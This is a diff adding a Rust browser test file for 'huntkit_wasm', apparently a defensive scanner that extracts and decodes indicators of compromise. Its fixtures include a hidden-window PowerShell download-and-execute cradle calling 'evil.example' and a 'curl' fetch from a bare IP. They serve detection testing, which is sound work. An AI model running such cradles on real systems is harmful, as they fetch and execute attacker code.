@@ -1,0 +1,110 @@
+//! The facade as JS sees it, in a real browser (headless Chromium through
+//! wasm-bindgen-test-runner and chromedriver).
+#![cfg(target_arch = "wasm32")]
+
+use huntkit_wasm::{decode_text, extract_ioc_table, ioc_types, IocScanner};
+use wasm_bindgen::{JsCast, JsValue};
+use wasm_bindgen_test::*;
+
+wasm_bindgen_test_configure!(run_in_browser);
+
+fn get(v: &JsValue, key: &str) -> JsValue {
+    js_sys::Reflect::get(v, &JsValue::from_str(key)).unwrap()
+}
+
+#[wasm_bindgen_test]
+fn scanner_finds_defanged_iocs_across_chunks() {
+    let mut s = IocScanner::new(JsValue::UNDEFINED).unwrap();
+    s.push("beacon to hxxps://evil[.]exam");
+    s.push_bytes(b"ple[.]com/a.php from 10.1.2.3\n");
+    let result = s.finish().unwrap();
+    let items = js_sys::Array::from(&get(&result, "items"));
+    let values: Vec<String> = items
+        .iter()
+        .map(|i| get(&i, "Refanged").as_string().unwrap())
+        .collect();
+    assert_eq!(values, ["https://evil.example.com/a.php", "evil.example.com", "10.1.2.3"]);
+    assert_eq!(get(&get(&result, "counts"), "ipv4").as_f64(), Some(1.0));
+}
+
+#[wasm_bindgen_test]
+fn bad_options_raise_errors_with_a_kind() {
+    let opts = js_sys::JSON::parse(r#"{"types": ["ipv5"]}"#).unwrap();
+    let err = IocScanner::new(opts).err().unwrap();
+    assert_eq!(get(&err, "kind").as_string().unwrap(), "unknown_ioc_type");
+    assert!(err.dyn_ref::<js_sys::Error>().is_some());
+    let opts = js_sys::JSON::parse(r#"{"typos": true}"#).unwrap();
+    let err = IocScanner::new(opts).err().unwrap();
+    assert_eq!(get(&err, "kind").as_string().unwrap(), "invalid_option");
+}
+
+#[wasm_bindgen_test]
+fn table_extraction_returns_arrow() {
+    let csv = b"host,cmd\nh1,curl http://1.2.3.4/x\n";
+    let bytes = extract_ioc_table(csv, "csv", JsValue::UNDEFINED).unwrap();
+    assert_eq!(&bytes[..4], &[0xff, 0xff, 0xff, 0xff], "an Arrow IPC stream");
+    let err = extract_ioc_table(b"a\nx\n", "csv", js_sys::JSON::parse(r#"{"columns":["Cmd"]}"#).unwrap())
+        .err()
+        .unwrap();
+    assert_eq!(get(&err, "kind").as_string().unwrap(), "missing_column");
+}
+
+#[wasm_bindgen_test]
+fn decode_powershell_encoded_command() {
+    // UTF-16LE of "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
+    let ps: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
+        .encode_utf16()
+        .flat_map(|u| u.to_le_bytes())
+        .collect();
+    let b64 = base64_encode(&ps);
+    let text = format!("powershell.exe -nop -w hidden -EncodedCommand {b64}");
+    let result = decode_text(&text, JsValue::UNDEFINED).unwrap();
+    let annotated = get(&result, "annotated").as_string().unwrap();
+    assert!(annotated.contains("DownloadString('http://evil.example/a.ps1')"), "{annotated}");
+    assert_eq!(ioc_types().len(), 14);
+}
+
+fn base64_encode(bytes: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in bytes.chunks(3) {
+        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
+        for i in 0..4 {
+            if i <= c.len() {
+                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+#[derive(serde::Deserialize)]
+struct Case {
+    name: String,
+    text: String,
+    expect: Vec<(String, String)>,
+}
+
+/// The golden cases the native build also runs (`rust/core/tests/golden.rs`).
+#[wasm_bindgen_test]
+fn golden_ioc_cases_agree_with_native() {
+    let cases: Vec<Case> =
+        serde_json::from_str(include_str!("../../../tests/golden/ioc_cases.json")).unwrap();
+    for case in cases {
+        let mut s = IocScanner::new(JsValue::UNDEFINED).unwrap();
+        s.push(&case.text);
+        let items = js_sys::Array::from(&get(&s.finish().unwrap(), "items"));
+        let got: Vec<(String, String)> = items
+            .iter()
+            .map(|i| {
+                (
+                    get(&i, "IoCType").as_string().unwrap(),
+                    get(&i, "Refanged").as_string().unwrap(),
+                )
+            })
+            .collect();
+        assert_eq!(got, case.expect, "case {:?}", case.name);
+    }
+}
